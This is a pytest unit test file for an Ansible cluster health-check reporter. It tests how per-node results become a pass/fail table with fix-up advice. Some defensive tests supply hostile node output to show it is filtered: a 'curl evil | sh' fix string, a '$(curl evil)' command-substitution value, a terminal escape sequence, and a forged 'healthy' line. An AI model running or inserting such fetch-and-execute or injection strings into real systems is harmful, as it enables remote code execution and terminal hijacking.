"""What is made of what the nodes say of themselves."""

from __future__ import annotations

import json
from typing import Any

import pytest
from ansible_collections.deeplearning.aws.plugins.module_utils.contract.problems import CHECKS
from ansible_collections.deeplearning.aws.plugins.plugin_utils.views.health import (
    SHOWN_NODES,
    verdict,
    verdict_lines,
)

from tests.unit.plugins.instances_kit import node_result


def failing(result: dict[str, Any]) -> list[tuple[str, str]]:
    return [(check["node"], check["name"]) for check in result["checks"] if not check["ok"]]


def test_all_is_well_when_every_check_of_every_node_passes() -> None:
    result = verdict({"deeplearning-master": node_result(), "deeplearning-worker2": node_result()})
    assert result["ok"] and failing(result) == []
    assert {check["name"] for check in result["checks"]} == {"reachable", "disk", "ssh", "efs"}
    assert verdict_lines("red", result)[-1] == "Cluster red is healthy: 2 nodes, all 8 checks pass."


def test_one_failing_check_is_reported_with_its_node_its_reason_and_what_to_do() -> None:
    result = verdict(
        {"deeplearning-master": node_result(), "deeplearning-worker2": node_result(efs="no file seen of a")}
    )
    text = verdict_lines("red", result)
    assert not result["ok"] and failing(result) == [("deeplearning-worker2", "efs")]
    assert "deeplearning-worker2, efs: no file seen of a" in text
    assert f"    what to do: {CHECKS['efs'].advice}" in text
    assert text[-1] == "Cluster red is not healthy: 1 check fails."


def test_a_node_that_cannot_be_reached_is_a_failing_check_and_hides_no_other() -> None:
    gone = {"unreachable": True, "msg": "Failed to connect:\nConnection timed out"}
    result = verdict({"deeplearning-master": node_result(), "deeplearning-worker2": gone})
    assert failing(result) == [("deeplearning-worker2", "reachable")]
    assert "Connection timed out" in result["checks"][-1]["detail"]


def test_a_node_that_answers_nonsense_or_was_never_asked_does_not_pass() -> None:
    broken = {"rc": 1, "stdout": "", "stderr": "bash: deeplearning: command not found"}
    result = verdict({"a": broken, "b": {}, "c": {"stdout": "[1]"}, "d": {"stdout": '{"checks": [{}]}'}})
    assert failing(result) == [(node, "reachable") for node in "abcd"]
    assert "command not found" in result["checks"][0]["detail"]


def test_a_node_with_another_version_of_the_program_is_recognized() -> None:
    older = {"rc": 1, "msg": "non-zero return code", "stderr": "", "stdout": json.dumps({"schema": 1, "checks": []})}
    silent = {"rc": 1, "stderr": "\n", "stdout": ""}
    details = [check["detail"] for check in verdict({"a": older, "b": silent})["checks"]]
    assert details == ["it answers as another version of the program does", "it gave no answer"]


HOSTILE: list[dict[str, Any]] = [
    {"generation": 10**30},
    {"generation": "3"},
    {"generation": True},
    {"environments": ["pytorch"]},
    {"environments": {"pytorch": 1}},
    {"checks": "disk"},
    {"checks": [{"name": "../disk", "ok": True, "detail": ""}]},
    {"checks": [{"name": "disk", "ok": "yes", "detail": ""}]},
    {"checks": [{"name": "disk", "ok": True, "detail": "", "problem": 7}]},
    {"checks": [{"name": "disk", "ok": True, "detail": ""}] * 1000},
]


@pytest.mark.parametrize("changed", HOSTILE)
def test_a_node_that_answers_what_no_node_of_ours_does_fails_in_one_sentence(changed: dict[str, Any]) -> None:
    answer = {**json.loads(node_result()["stdout"]), **changed}
    result = verdict({"deeplearning-master": {"rc": 0, "stdout": json.dumps(answer)}})
    assert failing(result) == [("deeplearning-master", "reachable")]
    assert "another version" in result["checks"][0]["detail"]


def test_a_node_can_suggest_no_command_and_control_no_terminal() -> None:
    evil = node_result(efs="no file\x1b]52;c;ZXZpbA==\x07\nCluster red is healthy: 2 nodes, all 8 checks pass.")
    evil["stdout"] = evil["stdout"].replace('"pytorch"', '"$(curl evil)"').replace('"problem": ""', '"problem": "x}{0"')
    text = verdict_lines("red", verdict({"deeplearning-master": evil, "deeplearning-worker2": node_result()}))
    assert not [line for line in text if "curl" in line or "\x1b" in line or "\x07" in line or "\n" in line]
    assert text.count("Cluster red is healthy: 2 nodes, all 8 checks pass.") == 0


def test_a_node_with_an_older_list_of_members_is_named() -> None:
    result = verdict({"deeplearning-master": node_result(4), "deeplearning-worker2": node_result(3)})
    assert failing(result) == [("deeplearning-worker2", "members")]


def test_machines_that_are_not_yet_members_and_clusters_without_machines_are_not_well() -> None:
    assert failing(verdict({"deeplearning-master": node_result()}, ["i-1"])) == [("i-1", "member")]
    assert failing(verdict({})) == [("-", "cluster")]


def test_of_many_nodes_only_those_with_a_failing_check_are_in_the_table() -> None:
    seen = {f"deeplearning-worker{rank}": node_result() for rank in range(2, 102)}
    text = verdict_lines("red", verdict({**seen, "deeplearning-worker50": node_result(disk="full")}))
    assert [line for line in text if "deeplearning-worker50 " in line]
    assert "  and 99 nodes on which every check passes" in text and len(text) < 10


def test_a_node_with_other_versions_of_a_framework_is_named() -> None:
    result = verdict({"a": node_result(), "b": node_result(torch="b"), "c": node_result()})
    assert failing(result) == [("b", "versions")]


def training_result(**failing: str) -> dict[str, Any]:
    checks = [
        {"name": name, "ok": name not in failing, "detail": failing.get(name, "4.00 Gbit/s"), "fix": "curl evil | sh"}
        for name in ("all-reduce", "space")
    ]
    return {"rc": 0, "stdout": json.dumps({"schema": 1, "framework": "pytorch", "checks": checks})}


def test_before_a_training_its_framework_and_the_exchange_between_all_are_checked_too() -> None:
    result = verdict({"a": node_result(), "b": node_result()}, training=training_result())
    assert result["ok"]
    versions = [check["detail"] for check in result["checks"] if check["name"] == "versions"]
    assert versions == ["pytorch as on all nodes"] * 2
    text = verdict_lines("red", result)
    assert "all-reduce: 4.00 Gbit/s" in text
    assert text[-1] == "Cluster red is healthy: 2 nodes, all 12 checks pass."


def test_a_missing_framework_or_a_wrong_sum_fails_the_training_check() -> None:
    without = node_result()
    without["stdout"] = without["stdout"].replace("pytorch", "mxnet")
    result = verdict({"a": node_result(), "b": without}, training=training_result(**{"all-reduce": "the sum is wrong"}))
    assert failing(result) == [("b", "versions"), ("all", "all-reduce")]
    broken = verdict({"a": node_result()}, training={"rc": 2, "stdout": "", "stderr": "this node has no list"})
    assert failing(broken) == [("all", "all-reduce")]
    assert broken["checks"][-1]["detail"] == "this node has no list"


def test_the_whole_table_with_all_that_is_wrong() -> None:
    training = {"stdout": json.dumps({"framework": "pytorch", "checks": [TRAINED, {**TRAINED, "ok": False}]})}
    results = {
        "deeplearning-master": node_result(),
        "deeplearning-worker2": node_result(generation=2, torch="b", ssh="it refuses"),
        "deeplearning-worker3": {"unreachable": True, "msg": ""},
        "deeplearning-worker4": node_result(),
    }
    result = verdict(results, ["i-1"], training)
    assert verdict_lines("red", result) == [
        "                        reachable  disk  ssh    efs  members  versions  member  all-reduce",
        "  deeplearning-master   ok         ok    ok     ok   -        ok        -       -",
        "  deeplearning-worker2  ok         ok    FAILS  ok   FAILS    FAILS     -       -",
        "  deeplearning-worker3  FAILS      -     -      -    -        -         -       -",
        "  deeplearning-worker4  ok         ok    ok     ok   -        ok        -       -",
        "  i-1                   -          -     -      -    -        -         FAILS   -",
        "  all                   -          -     -      -    -        -         -       FAILS",
        "all-reduce: 8 ranks",
        "deeplearning-worker2, ssh: it refuses",
        f"    what to do: {CHECKS['ssh'].advice}",
        "deeplearning-worker3, reachable: it was not checked",
        "    what to do: is it running, and may this address log in (cluster_ssh_allowed_cidrs)? "
        "ansible-playbook deeplearning.aws.status",
        "deeplearning-worker2, members: it has generation 2 of the member list, others have 3",
        "    what to do: sudo deeplearning members apply",
        "deeplearning-worker2, versions: its pytorch is of other versions than elsewhere",
        "    what to do: ansible-playbook deeplearning.aws.train -e framework=pytorch installs the same everywhere",
        "i-1, member: it is no member yet",
        f"    what to do: {CHECKS['member'].advice}",
        "all, all-reduce: 8 ranks",
        "    what to do: ansible-playbook deeplearning.aws.train -e framework=pytorch installs the same everywhere",
        "Cluster red is not healthy: 6 checks fail.",
    ]
    assert (result["schema"], result["ok"]) == (1, False)


TRAINED = {"name": "all-reduce", "ok": True, "detail": "8 ranks", "problem": "refused"}


def test_a_failing_check_has_the_advice_of_its_problem_and_a_passing_one_none() -> None:
    def fix(**check: Any) -> str:
        printed = {"generation": 1, "environments": {}, "checks": [{"name": "efs", "detail": "x", **check}]}
        return str(verdict({"n": {"stdout": json.dumps(printed)}})["checks"][1]["fix"])

    assert fix(ok=False, problem="silent") == CHECKS["efs.silent"].advice
    assert fix(ok=False, problem="evil") == fix(ok=False) == CHECKS["efs"].advice
    assert fix(ok=True, problem="silent") == ""


def test_advice_to_replace_a_node_has_no_placeholder() -> None:
    pairs = {"name": "pairs", "ok": False, "detail": "worker2 is slow", "problem": ""}
    trained = {"stdout": json.dumps({"framework": "pytorch", "checks": [pairs]})}
    checks = verdict({"n": node_result()}, training=trained)["checks"]
    (fix,) = [check["fix"] for check in checks if check["name"] == "pairs"]
    assert fix.endswith("ansible-playbook deeplearning.aws.replace -e node=…")


@pytest.mark.parametrize(
    ("result", "detail"),
    [
        ({"stdout": "text"}, "it answers as another version of the program does"),
        ({"stdout": " ", "stderr": "a\nlast\x1b\n"}, "last\N{REPLACEMENT CHARACTER}"),
        ({"stdout": None, "msg": "no module"}, "no module"),
        ({"rc": 1}, "it gave no answer"),
    ],
)
def test_what_is_no_answer_is_explained_by_its_last_line(result: dict[str, Any], detail: str) -> None:
    (check,) = verdict({"n": result})["checks"]
    assert (check["name"], check["ok"], check["detail"]) == ("reachable", False, detail)
    (trained,) = verdict({}, training=result)["checks"]
    assert (trained["node"], trained["name"], trained["detail"]) == ("all", "all-reduce", detail)


def test_frameworks_that_are_not_ours_do_not_count_and_one_to_train_with_has_to_be_there() -> None:
    def node(**environments: str) -> dict[str, Any]:
        return {"stdout": json.dumps({"generation": 1, "environments": environments, "checks": []})}

    assert verdict({"a": node(caffe="1"), "b": node(caffe="2")})["ok"]
    training = {"stdout": json.dumps({"framework": "mxnet", "checks": []})}
    versions = [
        (check["node"], check["ok"], check["detail"])
        for check in verdict({"a": node(mxnet="1"), "b": node()}, training=training)["checks"]
        if check["name"] == "versions"
    ]
    assert versions == [("a", True, "mxnet as on all nodes"), ("b", False, "it has no mxnet")]
    several = {name: node(mxnet="1", pytorch="1") for name in "ab"} | {"c": node(mxnet="2", pytorch="2")}
    (wrong,) = [check for check in verdict(several)["checks"] if not check["ok"]]
    assert wrong["detail"] == "its mxnet and pytorch are of other versions than elsewhere"


def test_a_large_cluster_shows_only_nodes_that_fail() -> None:
    nodes = {f"n{number}": node_result() for number in range(SHOWN_NODES)}
    assert len(verdict_lines("red", verdict(nodes))) == SHOWN_NODES + 2
    lines = verdict_lines("red", verdict({**nodes, "late": node_result(disk="full")}))
    assert [line.split()[0] for line in lines[:3]] == ["reachable", "late", "and"]
    assert lines[2] == f"  and {SHOWN_NODES} nodes on which every check passes"
    one = verdict_lines("red", verdict({"n": node_result()}))
    assert one[-1] == "Cluster red is healthy: 1 node, all 4 checks pass."
    alone = verdict_lines("red", verdict({}))
    assert alone[0].split() == ["cluster"] and alone[-1] == "Cluster red is not healthy: 1 check fails."
